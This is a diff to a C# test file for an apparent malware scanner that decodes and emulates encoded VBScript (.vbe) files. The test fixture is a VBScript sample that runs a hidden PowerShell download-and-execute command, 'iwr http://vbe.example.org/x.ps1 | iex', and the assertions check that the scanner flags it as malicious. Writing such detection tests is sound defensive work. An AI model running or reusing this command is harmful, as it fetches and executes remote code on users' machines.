@@ -91,9 +91,9 @@ public sealed class EncodedScriptTests
     }
 
     [Fact]
-    public async Task A_vbe_file_is_decoded_into_a_vbscript_child()
+    public async Task A_vbe_file_is_decoded_into_a_vbscript_child_that_is_emulated()
     {
-        const string Script = "Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"powershell -w hidden -c iwr http://vbe.example.org/x.ps1 | iex\", 0\r\nEnd If\r\n";
+        const string Script = "Set shell = CreateObject(\"WScript.Shell\")\r\nIf shell Is Nothing Then WScript.Quit\r\nshell.Run \"powershell -w hidden -c iwr http://vbe.example.org/x.ps1 | iex\", 0\r\n";
 
         var report = await Analyse(Encode(Script), "update.vbe");
 
@@ -101,6 +101,10 @@ public sealed class EncodedScriptTests
         Assert.Equal("vbscript", decoded.Kind);
         Assert.Contains("VBScript.Encode", Assert.Single(report.AllFindings, f => f.Finding.Id == "script-encoded").Finding.Title, StringComparison.Ordinal);
         Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://vbe.example.org/x.ps1");
+        Assert.Equal(Verdict.Malicious, report.Verdict);
+        var emulated = Assert.Single(decoded.Findings, f => f.Scanner == "emulation" && f.Id == "emulation-download-execute");
+        Assert.Contains("T1059.005", emulated.Attack);
+        Assert.Contains("powershell -w hidden -c iwr http://vbe.example.org/x.ps1 | iex", emulated.Evidence, StringComparison.Ordinal);
     }
 
     [Fact]
